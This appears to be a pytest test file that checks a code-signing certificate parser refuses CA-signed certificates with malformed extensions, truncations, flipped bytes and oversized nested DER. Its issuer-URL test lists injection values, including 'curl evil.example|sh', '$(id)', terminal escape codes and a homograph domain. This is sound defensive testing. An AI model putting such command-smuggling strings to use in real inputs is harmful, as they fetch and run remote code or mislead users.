"""Certificates made to be misread. Those with odd content are signed by the CA itself: no signature
check saves a reader from a CA that errs."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pki import LEAF_TERM, NOW, PUBLIC_URL, SAN_URI, Pki, log_id

from trust.core.errors import Malformed, TouchplateError
from trust.core.keys import der
from trust.core.x509 import certificate as profile
from trust.core.x509 import writer
from trust.core.x509.certificate import check_leaf, check_sct, parse_certificate

OURS = Pki()  # one for all examples of a property
URL = PUBLIC_URL.encode()
SAN = der.sequence(der.tlv(profile.URI_TAG, SAN_URI.encode()))


def extension(oid: bytes, value: bytes, *, critical: bool = False) -> bytes:
    return writer._extension(oid, value, critical=critical)


def standard() -> dict[bytes, bytes]:
    """The extensions of a good leaf, by object identifier."""
    return {
        profile.KEY_USAGE: extension(profile.KEY_USAGE, der.bits(b"\x80", 7), critical=True),
        profile.EKU: extension(profile.EKU, der.sequence(profile.CODE_SIGNING)),
        profile.SAN: extension(profile.SAN, SAN, critical=True),
        profile.ISSUER_RAW: extension(profile.ISSUER_RAW, URL),
        profile.ISSUER_DER: extension(profile.ISSUER_DER, der.text(PUBLIC_URL)),
    }


def certificate_with(changes: dict[bytes, bytes], *more: bytes) -> bytes:
    """Issue a leaf in which some extensions are others, or there are more."""
    extensions = (*(standard() | changes).values(), *more)
    tbs = writer._tbs(
        9, OURS.ca.subject, LEAF_TERM, der.sequence(), OURS.ana.public_key, extensions
    )
    return writer.issue(tbs, OURS.ca_key)


def accepted(data: bytes) -> bool:
    try:
        leaf = parse_certificate(data)
        check_leaf(leaf, OURS.ca, NOW)
    except TouchplateError:
        return False
    return leaf.san_uri == SAN_URI and leaf.issuer_url == PUBLIC_URL


def test_the_unchanged_leaf_is_accepted() -> None:
    assert accepted(certificate_with({}))


def check_all(data: bytes, sct_keys: dict[bytes, bytes]) -> None:
    leaf = parse_certificate(data)
    check_leaf(leaf, OURS.ca, NOW)
    check_sct(leaf, OURS.ca, sct_keys)


def sct_list(*scts: bytes) -> bytes:
    items = b"".join(len(sct).to_bytes(2, "big") + sct for sct in scts)
    return der.octets(len(items).to_bytes(2, "big") + items)


FALSE, TRUE = b"\x01\x01\x00", b"\x01\x01\xff"
UNKNOWN = der.oid("1.2.3.4")
SCT = OURS.sct()
CHANGES = {
    "no key usage": {profile.KEY_USAGE: b""},
    "key usage of a CA": {
        profile.KEY_USAGE: extension(profile.KEY_USAGE, der.bits(b"\x84", 2), critical=True)
    },
    "no purpose": {profile.EKU: b""},
    "any purpose": {profile.EKU: extension(profile.EKU, der.sequence(der.oid("2.5.29.37.0")))},
    "two purposes": {
        profile.EKU: extension(
            profile.EKU, der.sequence(profile.CODE_SIGNING, profile.TIME_STAMPING)
        )
    },
    "no alternative name": {profile.SAN: b""},
    "another kind of name": {
        profile.SAN: extension(profile.SAN, der.sequence(der.tlv(0x81, b"a@b.example")))
    },
    "two names": {profile.SAN: extension(profile.SAN, der.sequence(SAN[2:], SAN[2:]))},
    "a name that is not ASCII": {
        profile.SAN: extension(profile.SAN, der.sequence(der.tlv(profile.URI_TAG, b"h\xc3\xa9")))
    },
    "issuers that disagree": {profile.ISSUER_RAW: extension(profile.ISSUER_RAW, URL + b".evil")},
    "only the old issuer": {profile.ISSUER_DER: b""},
    "only the new issuer": {profile.ISSUER_RAW: b""},
    "an issuer that is not UTF-8": {
        profile.ISSUER_RAW: extension(profile.ISSUER_RAW, b"\xff"),
        profile.ISSUER_DER: extension(profile.ISSUER_DER, der.tlv(der.UTF8_STRING, b"\xff")),
    },
    "junk after the alternative name": {
        profile.SAN: extension(profile.SAN, SAN + b"junk", critical=True)
    },
    "an empty alternative name": {
        profile.SAN: extension(profile.SAN, der.sequence(der.tlv(profile.URI_TAG, b"")))
    },
    "an alternative name that is not critical": {profile.SAN: extension(profile.SAN, SAN)},
    "junk after the key usage": {
        profile.KEY_USAGE: extension(profile.KEY_USAGE, der.bits(b"\x80", 7) + b"x")
    },
    "key usage with a bit that DER cuts": {
        profile.KEY_USAGE: extension(profile.KEY_USAGE, der.bits(b"\x80", 0))
    },
    "key usage of no bits": {profile.KEY_USAGE: extension(profile.KEY_USAGE, der.bits(b"", 0))},
    "key usage of nothing": {profile.KEY_USAGE: extension(profile.KEY_USAGE, b"")},
    "junk after the purposes": {
        profile.EKU: extension(profile.EKU, der.sequence(profile.CODE_SIGNING) + b"x")
    },
    "junk after the issuer": {
        profile.ISSUER_DER: extension(profile.ISSUER_DER, der.text(PUBLIC_URL) + b"x")
    },
    "critical FALSE": {
        profile.EKU: der.sequence(
            profile.EKU, FALSE, der.octets(der.sequence(profile.CODE_SIGNING))
        )
    },
    "critical 0x01": {
        profile.EKU: der.sequence(
            profile.EKU, b"\x01\x01\x01", der.octets(der.sequence(profile.CODE_SIGNING))
        )
    },
}
ADDITIONS = {
    "a CA": extension(profile.BASIC, der.sequence(TRUE), critical=True),
    "no CA, spelt out": extension(profile.BASIC, der.sequence(FALSE), critical=True),
    "junk in the constraints": extension(profile.BASIC, der.sequence(b"junk"), critical=True),
    "junk after the SCT list": extension(profile.SCT_LIST, sct_list(SCT) + b"x"),
    "an unknown critical extension": extension(UNKNOWN, b"", critical=True),
    "the same extension twice": extension(profile.SAN, SAN, critical=True),
    "two SCTs": extension(profile.SCT_LIST, sct_list(SCT, SCT)),
    "an empty list of SCTs": extension(profile.SCT_LIST, sct_list()),
    "an SCT list that is cut": extension(profile.SCT_LIST, der.octets(b"\0\x05\0")),
    "an empty SCT list element": extension(profile.SCT_LIST, der.octets(b"")),
    "something that is no extension": der.integer(1),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_changed_extension_is_refused(name: str) -> None:
    assert not accepted(certificate_with(CHANGES[name]))


@pytest.mark.parametrize("name", ADDITIONS)
def test_an_added_extension_is_refused(name: str) -> None:
    assert not accepted(certificate_with({}, ADDITIONS[name]))


@pytest.mark.parametrize(
    "url",
    [
        "http://ok.example; curl evil.example|sh",
        "http://ok.example\x1b[2J",
        "http://ok.example\nThis file is valid.",
        "http://ok.example/$(id)",
        "http://OK.example",
        "http://p\u0430ypal.example",
        "javascript://ok.example",
        "http://",
        "",
    ],
)
def test_an_issuer_that_could_speak_to_a_terminal_or_shell_is_malformed(url: str) -> None:
    # The verdict about an unknown registry shows this URL, in a command, with nothing verified.
    data = certificate_with(
        {
            profile.ISSUER_RAW: extension(profile.ISSUER_RAW, url.encode()),
            profile.ISSUER_DER: extension(profile.ISSUER_DER, der.text(url)),
        }
    )
    with pytest.raises(Malformed):
        parse_certificate(data)


@pytest.mark.parametrize("uri", [b"http://x/\x1b[2J", b"http://x/ y", b"x" * 2000])
def test_an_alternative_name_is_visible_ascii(uri: bytes) -> None:
    names = der.sequence(der.tlv(profile.URI_TAG, uri))
    with pytest.raises(Malformed):
        parse_certificate(
            certificate_with({profile.SAN: extension(profile.SAN, names, critical=True)})
        )


@pytest.mark.parametrize("serial", [0, 2**159, 2**1000])
def test_serial_numbers_have_1_to_159_bits(serial: int) -> None:
    extensions = tuple(standard().values())
    tbs = writer._tbs(
        serial, OURS.ca.subject, LEAF_TERM, der.sequence(), OURS.ana.public_key, extensions
    )
    with pytest.raises(Malformed):
        parse_certificate(writer.issue(tbs, OURS.ca_key))


def test_an_unknown_extension_that_is_not_critical_is_passed_over() -> None:
    assert accepted(certificate_with({}, extension(UNKNOWN, b"anything")))


@pytest.mark.parametrize("version", [b"", der.context(0, der.integer(1)), der.context(0, b"")])
def test_other_versions_are_malformed(version: bytes) -> None:
    tbs = OURS.tbs()
    content = der.Reader(tbs, "tbs").take(der.SEQUENCE)
    laid = der.context(0, der.integer(2))
    assert content.startswith(laid)
    changed = der.tlv(der.SEQUENCE, version + content[len(laid) :])
    with pytest.raises(Malformed):
        parse_certificate(writer.issue(changed, OURS.ca_key))


@pytest.mark.parametrize("algorithm", ["1.2.840.10045.4.3.3", "1.2.840.113549.1.1.11"])
def test_another_algorithm_inside_or_outside_is_malformed(algorithm: str) -> None:
    data, wrong = OURS.leaf.der, der.sequence(der.oid(algorithm))
    assert data.count(profile.ECDSA_SHA256) == 2
    outside = der.sequence(OURS.leaf.tbs, wrong, der.bits(OURS.leaf.signature))
    tbs = der.Reader(OURS.leaf.tbs, "tbs").take(der.SEQUENCE)
    inside = der.tlv(der.SEQUENCE, tbs.replace(profile.ECDSA_SHA256, wrong, 1))
    for hostile in (outside, writer.issue(inside, OURS.ca_key)):
        with pytest.raises(Malformed):
            parse_certificate(hostile)


def test_every_truncation_is_malformed() -> None:
    data = OURS.leaf.der
    for size in range(len(data)):
        with pytest.raises(Malformed):
            parse_certificate(data[:size])
    with pytest.raises(Malformed):
        parse_certificate(data + b"\0")


@pytest.mark.parametrize("mask", [0x01, 0x80, 0xFF])
def test_every_flipped_byte_is_refused(mask: int) -> None:
    data = OURS.leaf.der
    keys = {log_id(OURS.sct_key): OURS.sct_key.public_key}
    for place in range(len(data)):
        flipped = data[:place] + bytes([data[place] ^ mask]) + data[place + 1 :]
        with pytest.raises(TouchplateError):
            check_all(flipped, keys)


@pytest.mark.parametrize(
    "hostile",
    [
        b"",
        b"\x30\x80" * 30_000,  # nested, of indefinite length
        b"\x30" * 100_000,
        b"\x30\x84\xff\xff\xff\xff",
        b"\x30\x82\xff\xff" * 15_000,
        der.sequence(der.sequence(der.tlv(der.INTEGER, b"\x7f" * 60_000))),
        b"-----BEGIN CERTIFICATE-----\n",
    ],
    ids=["nothing", "nested", "deep", "huge", "huge and nested", "huge number", "PEM"],
)
def test_hostile_shapes_are_malformed(hostile: bytes) -> None:
    with pytest.raises(Malformed):
        parse_certificate(hostile)


def nested(depth: int) -> bytes:
    """A well-formed document that goes down as far as 64 KiB allow."""
    data = b""
    for _ in range(depth):
        data = der.sequence(data)
    return data


def test_depth_costs_nothing() -> None:
    with pytest.raises(Malformed):
        parse_certificate(nested(16_000))


@given(st.integers(0, len(OURS.leaf.der)), st.integers(0, 60), st.binary(max_size=60))
def test_spliced_bytes_are_malformed_or_refused(start: int, size: int, splice: bytes) -> None:
    data = OURS.leaf.der
    spliced = data[:start] + splice + data[start + size :]
    if spliced == data:
        return
    with pytest.raises(TouchplateError):
        check_leaf(parse_certificate(spliced), OURS.ca, NOW)


@given(st.binary(max_size=200))
def test_a_spliced_tbs_that_the_ca_signs_raises_only_our_errors(splice: bytes) -> None:
    tbs = der.Reader(OURS.leaf.tbs, "tbs").take(der.SEQUENCE)
    for start in range(0, len(tbs), 97):
        hostile = der.tlv(der.SEQUENCE, tbs[:start] + splice + tbs[start + len(splice) :])
        try:
            leaf = parse_certificate(writer.issue(hostile, OURS.ca_key))
            check_sct(leaf, OURS.ca, {bytes(32): OURS.ana.public_key})
        except TouchplateError:
            continue
